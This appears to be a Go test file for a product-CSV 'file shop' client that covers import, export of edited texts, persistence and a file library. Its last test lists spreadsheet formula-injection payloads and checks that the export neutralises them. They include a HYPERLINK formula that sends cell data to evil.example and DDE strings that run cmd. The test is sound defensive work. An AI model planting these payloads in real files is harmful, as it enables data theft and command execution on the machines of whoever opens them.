package fileshop_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"galley/backend/demo"
	"galley/backend/fileshop"
	"galley/backend/galley"
	"galley/backend/galley/galleytest"
	"galley/backend/products/productcsv"
	"galley/backend/store"
	"galley/backend/store/storetest"
)

var bg = context.Background()

const source = "\xef\xbb\xbfHandle,Title,Body (HTML),Vendor,Tags,Status,Option1 Name,Option1 Value,Variant SKU,Variant Price,Image Src,Image Position,Image Alt Text,SEO Title,SEO Description,Market Price / EU\r\n" +
	"lamp,Lamp,\"<p>Oak,\n\"\"solid\"\"</p>\",Aldermill,\"oak, lamp\",active,Size,Small,L-1,84.00,https://cdn.example/1.jpg,1,,Lamp | Aldermill,,90\r\n" +
	"lamp,,,,,,,Large,L-2,96.00,https://cdn.example/2.jpg,2,Side view.,,,99\r\n" +
	"mug,Mug,,Kiln,,draft,Title,Default Title,,9.5,,,,,,\r\n" +
	"=sum,'=SUM(1) mug,<p>Odd.</p>,Kiln,,active,Title,Default Title,,9.5,,,,,,\r\n"

func open(t *testing.T) (*fileshop.Client, *store.Store, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "spring range.csv")
	require.NoError(t, os.WriteFile(path, []byte(source), 0o600))
	s := storetest.Open(t, galleytest.NewClock())
	require.NoError(t, s.AddShop(bg, galley.Shop{ID: "f1", Name: "Spring range", Kind: galley.ShopFile}))
	c, err := fileshop.Open("f1", path, s)
	require.NoError(t, err)
	return c, s, path
}

// export is the one file of an export, and its number of products.
func export(t *testing.T, c *fileshop.Client) (file []byte, products int) {
	t.Helper()
	parts, err := c.Export(bg, productcsv.MaxImport)
	require.NoError(t, err)
	require.Len(t, parts, 1)
	return parts[0].Content, parts[0].Products
}

func TestReadsFileAsShop(t *testing.T) {
	c, _, _ := open(t)
	page, err := c.Products(bg, "")
	require.NoError(t, err)
	require.Equal(t, 3, page.Total)
	require.Empty(t, page.Next)
	lamp := page.Products[0]
	require.Equal(t, "<p>Oak,\n\"solid\"</p>", lamp.DescriptionHTML)
	require.Equal(t, galley.Text("Lamp | Aldermill"), lamp.SEOTitle)
	require.Equal(t, galley.Null(), lamp.MetaDescription)
	require.Equal(t, []string{"L-1", "L-2"}, lamp.SKUs)
	require.Equal(t, "84.00", lamp.PriceMin)
	require.Equal(t, "96.00", lamp.PriceMax)
	require.Equal(t, galley.Text("Side view."), lamp.Images[1].Alt)
	require.Equal(t, "draft", page.Products[1].Status)
	_, err = c.Products(bg, "elsewhere")
	require.Equal(t, galley.CodeInvalidInput, galley.CodeOf(err))
}

func write(t *testing.T, c *fileshop.Client, f galley.Field, handle, image, text string) galley.Target {
	t.Helper()
	target := galley.ProductTarget("gid://galley/Product/" + handle)
	if image != "" {
		target = galley.ImageTarget("gid://galley/Image/" + handle + "/" + image)
	}
	_, err := galleytest.WriteField(bg, c, f, target, galley.Text(text))
	require.NoError(t, err)
	now, err := c.Content(bg, f, []galley.Target{target})
	require.NoError(t, err)
	require.Equal(t, galley.Text(text), now[0].Value)
	return target
}

func TestExportHoldsOnlyPublishedTexts(t *testing.T) {
	c, _, _ := open(t)
	write(t, c, galley.FieldDescription, "lamp", "", "<p>-42 °C, \"new\",\nline</p>")
	write(t, c, galley.FieldMetaDescription, "lamp", "", "=1+1, a lamp")
	write(t, c, galley.FieldAltText, "lamp", "1", "Front view.")
	undone := write(t, c, galley.FieldTitle, "mug", "", "Mug, new")
	_, err := galleytest.WriteField(bg, c, galley.FieldTitle, undone, galley.Text("Mug"))
	require.NoError(t, err)

	file, n := export(t, c)
	require.Equal(t, 1, n, "the mug is as it was")
	header, _, _ := strings.Cut(string(file), "\n")
	require.Equal(t, "Handle,Title,Body (HTML),SEO Description,Image Src,Image Position,Image Alt Text", header)

	products, err := productcsv.Read("export.csv", bytes.NewReader(file))
	require.NoError(t, err)
	require.Len(t, products, 1)
	require.Equal(t, "lamp", products[0].Handle)
	require.Equal(t, "Lamp", products[0].Title)
	require.Equal(t, "<p>-42 °C, \"new\",\nline</p>", products[0].BodyHTML)
	require.Equal(t, "=1+1, a lamp", products[0].SEODescription)
	require.Equal(t, []productcsv.Image{
		{Src: "https://cdn.example/1.jpg", Position: 1, Alt: "Front view."},
		{Src: "https://cdn.example/2.jpg", Position: 2, Alt: "Side view."},
	}, products[0].Images)
}

func TestPublishedTextsPersistAndEmptyExportIsValid(t *testing.T) {
	c, s, path := open(t)
	_, n := export(t, c)
	require.Zero(t, n)

	write(t, c, galley.FieldSEOTitle, "=sum", "", "Odd mug | Kiln")
	again, err := fileshop.Open("f1", path, s)
	require.NoError(t, err)
	page, err := again.Products(bg, "")
	require.NoError(t, err)
	require.Equal(t, galley.Text("Odd mug | Kiln"), page.Products[2].SEOTitle)

	// The demo shop reads the export as Shopify's import would.
	file, _ := export(t, again)
	out := filepath.Join(t.TempDir(), "export.csv")
	require.NoError(t, os.WriteFile(out, file, 0o600))
	shop, err := demo.Open(bg, demo.Options{Seed: demo.Seed{Catalogues: []string{out}}})
	require.NoError(t, err)
	require.NoError(t, shop.Close())
	products, err := productcsv.Read(out, bytes.NewReader(file))
	require.NoError(t, err)
	require.Equal(t, "=sum", products[0].Handle)
	require.Equal(t, "=SUM(1) mug", products[0].Title)
	require.Equal(t, "Odd mug | Kiln", products[0].SEOTitle)
}

func TestLibraryRefusesNonExports(t *testing.T) {
	l := fileshop.Library{Folder: filepath.Join(t.TempDir(), "files")}
	_, err := l.Keep("f1", "letter.csv", strings.NewReader("Dear editor,\nno handles here\n"), "")
	require.Equal(t, galley.CodeInvalidFile, galley.CodeOf(err))
	require.NoFileExists(t, l.Path("f1", 0))
	found, err := l.Keep("f1", "range.csv", strings.NewReader(source), "")
	require.NoError(t, err)
	require.Equal(t, 3, found.Products)
	kept, err := os.ReadFile(l.Path("f1", 0))
	require.NoError(t, err)
	require.Equal(t, source, string(kept))
	require.NoError(t, l.Remove("f1"))
	require.NoError(t, l.Remove("f1"))
}

// No cell starts like a formula, and each text is read back as published.
func TestExportContainsNoFormulas(t *testing.T) {
	for _, text := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@import", "'=1+1", "''=1+1", "'", "'90s lamp", "=", "a\n=1+1", "\"=1+1", ",=1+1", ";=1+1",
	} {
		c, _, _ := open(t)
		for _, f := range []galley.Field{galley.FieldTitle, galley.FieldDescription, galley.FieldSEOTitle, galley.FieldMetaDescription} {
			write(t, c, f, "lamp", "", text)
		}
		write(t, c, galley.FieldAltText, "lamp", "1", text)
		file, _ := export(t, c)
		records, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
		require.NoError(t, err)
		for _, record := range records {
			for _, cell := range record {
				require.NotRegexp(t, "^[=+\\-@\t\r]", cell)
			}
		}
		products, err := productcsv.Read("export.csv", bytes.NewReader(file))
		require.NoError(t, err)
		got := products[0]
		require.Equal(t, []string{text, text, text, text, text}, []string{got.Title, got.BodyHTML, got.SEOTitle, got.SEODescription, got.Images[0].Alt})
		require.Equal(t, "Side view.", got.Images[1].Alt)
	}
}

func TestClientConforms(t *testing.T) {
	c, _, _ := open(t)
	galleytest.ShopClientConformance(t, c, galley.ProductTarget("gid://galley/Product/lamp"), galley.ImageTarget("gid://galley/Image/lamp/1"))
}
